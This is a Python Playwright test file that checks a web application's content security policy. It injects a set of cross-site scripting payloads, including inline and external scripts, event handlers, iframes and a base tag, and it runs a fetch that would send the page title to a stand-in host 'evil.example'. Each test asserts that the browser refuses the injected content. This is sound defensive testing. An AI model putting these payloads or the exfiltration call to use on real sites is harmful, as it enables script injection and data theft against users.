"""The content security policy, tried by whoever would have got something of his into a page after all."""

import pytest
from playwright.sync_api import expect

from house import SESSIONS

PUT_IN = """html => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", event => window.refused.push(event.effectiveDirective));
    const range = document.createRange();
    range.selectNode(document.body);
    document.body.append(range.createContextualFragment(html));  // unlike innerHTML, this would run a script
}"""
INTRUSIONS = {
    "a-script": ("<script>window.pwned = 1</script>", "script-src-elem"),
    "a-script-of-another-host": ("<script src='https://evil.example/x.js'></script>", "script-src-elem"),
    "a-script-in-a-url-of-its-own": ("<script src='data:text/javascript,window.pwned=1'></script>", "script-src-elem"),
    "a-handler": ("<img src='/console/nothing' onerror='window.pwned = 1'>", "script-src-attr"),
    "a-style": ("<style>body { display: none }</style>", "style-src-elem"),
    "a-style-of-an-element": ("<p style='position: fixed'>covered</p>", "style-src-attr"),
    "a-picture-that-tells": ("<img src='https://evil.example/?told'>", "img-src"),
    "a-page-within": ("<iframe src='https://evil.example/'></iframe>", "frame-src"),
    "an-object": ("<object data='https://evil.example/x.swf'></object>", "object-src"),
    "another-base": ("<base href='https://evil.example/'>", "base-uri"),
    "a-font": ("<link rel='stylesheet' href='https://evil.example/x.css'>", "style-src-elem"),
}


@pytest.fixture
def page(house, visit):
    """A page that somebody has got a foot into."""
    page = house.let_in(visit(house.service, watched=False), "support")
    page.goto(SESSIONS)
    expect(page.locator("#results")).to_be_visible()
    return page


@pytest.mark.parametrize(("html", "directive"), INTRUSIONS.values(), ids=INTRUSIONS)
def test_what_was_put_into_a_page_neither_runs_nor_shows_nor_tells(page, html, directive):
    page.evaluate(PUT_IN, html)
    page.wait_for_function("wanted => window.refused.includes(wanted)", arg=directive)
    assert page.evaluate("window.pwned") is None
    expect(page.locator("#results")).to_be_visible()


def test_a_frame_that_was_put_into_a_page_is_held_to_its_policy(page):
    page.evaluate(PUT_IN, "<iframe srcdoc='<script>parent.pwned = 1</script><p>here</p>'></iframe>")
    expect(page.frame_locator("iframe").get_by_text("here")).to_be_attached()
    assert page.evaluate("window.pwned") is None


@pytest.mark.parametrize("run", ["() => eval(text)", "() => new Function(text)()", "text"])
def test_no_text_is_run_as_a_script(page, run):
    """It is tried by a timer, as what the browser's own tools run at once is above the policy."""
    page.evaluate(PUT_IN, "")
    page.evaluate(f"() => {{ const text = 'window.pwned = 1'; setTimeout({run}) }}")
    page.wait_for_function("() => window.refused.includes('script-src')")
    assert page.evaluate("window.pwned") is None


def test_nothing_is_sent_to_another_host(page):
    page.evaluate(PUT_IN, "")
    sent = "fetch('https://evil.example/?' + document.title).then(() => 'sent', () => 'refused')"
    assert page.evaluate(sent) == "refused"
    page.evaluate(PUT_IN, "<form id='out' action='https://evil.example/'></form>")
    page.evaluate("document.getElementById('out').submit()")
    page.wait_for_function("() => window.refused.includes('form-action')")
    assert SESSIONS in page.url
